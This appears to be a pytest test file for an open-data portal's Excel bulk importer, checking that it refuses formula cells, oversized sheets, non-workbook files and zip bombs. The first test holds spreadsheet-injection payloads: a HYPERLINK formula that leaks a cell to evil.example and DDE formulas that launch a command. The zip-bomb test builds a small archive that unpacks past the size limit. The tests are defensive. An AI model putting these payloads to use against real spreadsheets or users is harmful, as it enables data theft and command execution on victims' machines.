"""Hostile or broken uploads: formulas, huge sheets, zip bombs, files that are not workbooks."""
from __future__ import annotations

import os
import time
import zipfile
from io import BytesIO

import pytest
from openpyxl import Workbook
from sqlalchemy import func, select

from opendata import bulk
from opendata.bulk import reader
from opendata.extensions import db
from opendata.models import Dataset
from tests.bulk.workbooks import errors, fill, save

NOT_XLSX = (
    "This file is not an Excel workbook (.xlsx). Download the template from this page, fill it in and save it as an "
    "Excel Workbook (.xlsx); a file protected by a password must be unprotected first."
)
FORMULA_CELL = "This cell holds a formula. Type the value itself (or copy the cell and paste it as values only)."
FORMULA_TEXT = (
    "A value may not begin with =, +, - or @, because spreadsheet programs run such text as a formula. "
    "Remove or reword the first character."
)


def datasets() -> int:
    return db.session.scalar(select(func.count()).select_from(Dataset))


def test_formulas_and_formula_like_text_are_refused_cell_by_cell(app, agencies, people):
    stream = fill(agencies["own"], [
        {"title": '=HYPERLINK("http://evil.example/?leak="&B4, "Bấm vào đây")'},  # row 3: a live formula
        {"title": "Hợp lệ", "description": "=cmd|' /C calc'!A0"},  # row 4: a DDE formula
        {"title": ("text", "=1+1")},  # row 5: formula text stored as a string
        {"title": "+1+1"},  # row 6
        {"title": "Tiêu đề", "spatial": "@SUM(1)"},  # row 7
        {"title": "Tiêu đề", "legal_basis": "-2+3+cmd|' /C calc'!A0"},  # row 8
        {"title": "Điện thoại quốc tế", "contact_phone": "+84 296 3852 000"},  # row 9: a phone number is fine
    ])
    report = bulk.import_xlsx(people["editor"], agencies["own"], stream)
    assert not report.applied
    assert errors(report) == [
        (3, "A", FORMULA_CELL),
        (4, "B", FORMULA_CELL),
        (5, "A", FORMULA_TEXT),
        (6, "A", FORMULA_TEXT),
        (7, "F", FORMULA_TEXT),
        (8, "P", FORMULA_TEXT),
    ]
    assert report.errors[3].value == "+1+1"
    assert datasets() == 0


def test_more_rows_than_the_cap_are_refused_quickly(app, agencies, people):
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("Bộ dữ liệu")
    sheet.append(["Tên bộ dữ liệu (bắt buộc)", "Mô tả"])
    sheet.append(["title", "description"])
    for n in range(bulk.MAX_ROWS + 100):
        sheet.append([f"Bộ dữ liệu {n}", "Mô tả"])
    stream = save(workbook)
    started = time.monotonic()
    report = bulk.import_xlsx(people["editor"], agencies["own"], stream)
    assert time.monotonic() - started < 10
    assert errors(report) == [(None, "", "The sheet has more than 2000 datasets. Split them over several files of "
                                         "at most 2000 rows each.")]
    assert datasets() == 0


def test_a_sheet_running_past_the_scan_limit_is_refused(app, agencies, people):
    workbook = Workbook(write_only=True)  # write-only: no <dimension>, so the scan itself must stop
    sheet = workbook.create_sheet()
    sheet.append(["title"])
    sheet.append(["title"])
    sheet.append(["Hợp lệ"])
    for _ in range(reader.MAX_SCAN_ROWS):
        sheet.append([None, "x"])  # content outside the mapped columns: not a dataset, but still rows to read
    report = bulk.import_xlsx(people["editor"], agencies["own"], save(workbook))
    assert errors(report) == [(None, "", "The sheet goes on past row 10000. Delete the rows below your datasets and "
                                         "send the file again.")]


def test_a_declared_huge_sheet_is_refused_before_reading_it(app, agencies, people):
    workbook = Workbook()
    sheet = workbook.active
    sheet["A1"], sheet["A2"], sheet["A3"] = "title", "title", "Hợp lệ"
    sheet.cell(row=500_000, column=1, value="xa")
    report = bulk.import_xlsx(people["editor"], agencies["own"], save(workbook))
    assert errors(report)[0][2].startswith("The sheet goes on past row 10000.")
    workbook = Workbook()
    workbook.active["A1"], workbook.active["A2"] = "title", "Hợp lệ"
    workbook.active.cell(row=2, column=bulk.MAX_COLUMNS + 1, value="x")
    report = bulk.import_xlsx(people["editor"], agencies["own"], save(workbook))
    assert errors(report) == [(None, "", "The sheet has more than 100 columns. Use the columns of the template only.")]


@pytest.mark.parametrize("content", [
    b"title,description\nDanh sach,Mo ta\n",  # CSV bytes named .xlsx
    os.urandom(4096),
    b"",
    b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512,  # an old .xls, or a password-protected workbook
], ids=["csv", "random", "empty", "ole"])
def test_files_that_are_not_workbooks_get_a_clear_message(app, agencies, people, content):
    report = bulk.import_xlsx(people["editor"], agencies["own"], BytesIO(content))
    assert errors(report) == [(None, "", NOT_XLSX)] and not report.applied


def test_a_zip_that_is_not_a_workbook_or_is_damaged_is_refused(app, agencies, people):
    buffer = BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("word/document.xml", "<w/>")
    report = bulk.import_xlsx(people["editor"], agencies["own"], BytesIO(buffer.getvalue()))
    assert errors(report) == [(None, "", NOT_XLSX)]
    buffer = BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("xl/workbook.xml", "<not-really/>")
    report = bulk.import_xlsx(people["editor"], agencies["own"], BytesIO(buffer.getvalue()))
    assert errors(report) == [(None, "", NOT_XLSX)]


@pytest.mark.parametrize("member", ["xl/worksheets/sheet1.xml", "xl/sharedStrings.xml"])
def test_a_zip_bomb_is_refused_from_its_directory(app, agencies, people, member):
    """A member that unpacks to more than the cap: refused before openpyxl reads a byte of it."""
    template = zipfile.ZipFile(fill(agencies["own"], [{"title": "A"}]))
    buffer = BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for item in template.infolist():
            if item.filename != member:
                archive.writestr(item, template.read(item))
        with archive.open(member, "w", force_zip64=True) as handle:
            chunk = b" " * (1024 * 1024)
            for _ in range(reader.MAX_SHEET_XML_BYTES // len(chunk) + 1):
                handle.write(chunk)
    assert len(buffer.getvalue()) < 1024 * 1024  # small on the wire
    started = time.monotonic()
    report = bulk.import_xlsx(people["editor"], agencies["own"], BytesIO(buffer.getvalue()))
    assert time.monotonic() - started < 2
    assert errors(report) == [(None, "", "The workbook is too large once unpacked. Keep only the datasets sheet of the "
                                         "template, with at most 2000 datasets, and send it again.")]


def test_an_upload_over_the_size_cap_is_refused(app, agencies, people):
    report = bulk.import_xlsx(people["editor"], agencies["own"], BytesIO(b"PK" + b"\x00" * bulk.MAX_UPLOAD_BYTES))
    assert errors(report) == [(None, "", "The file is larger than 10 MB. Split the datasets over several files.")]
